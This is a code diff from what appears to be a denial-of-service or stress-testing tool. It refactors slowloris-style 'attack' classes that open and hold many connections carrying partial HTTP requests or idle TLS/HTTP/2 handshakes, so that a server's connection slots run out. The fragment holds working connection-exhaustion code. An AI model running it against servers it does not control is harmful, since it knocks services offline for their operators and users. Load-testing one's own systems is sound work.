@@ -310,13 +310,16 @@ class handshakes(Attack):
 class idle_connections(Attack):
     """As many connections as there is room for, each with the beginning of a request."""
 
+    def begin(self):
+        connection = self.connect(tls=False)
+        connection.sendall(b"GET / HTTP/1.1\r\nHost: ")
+        return connection
+
     def thread(self):
         held = []
         while not self.over():
             try:
-                connection = self.connect(tls=False)
-                connection.sendall(b"GET / HTTP/1.1\r\nHost: ")
-                held.append(connection)
+                held.append(self.begin())
                 self.count()
             except OSError:
                 time.sleep(0.05)
@@ -324,21 +327,11 @@ class idle_connections(Attack):
                 held.pop(0).close()
 
 
-class idle_tls(Attack):
-    """The same over TLS and HTTP/2: a connection that has shaken hands and says no more."""
+class idle_tls(idle_connections):
+    """The same over TLS and HTTP/2: connections that have shaken hands and say no more."""
 
-    def thread(self):
-        held = []
-        while not self.over():
-            try:
-                connection = self.connect()
-                connection.sendall(PREFACE + frame(SETTINGS, 0, 0))
-                held.append(connection)
-                self.count()
-            except OSError:
-                time.sleep(0.05)
-            if len(held) > self.options.each:
-                held.pop(0).close()
+    def begin(self):
+        return self.h2()
 
 
 class pipelining(Attack):
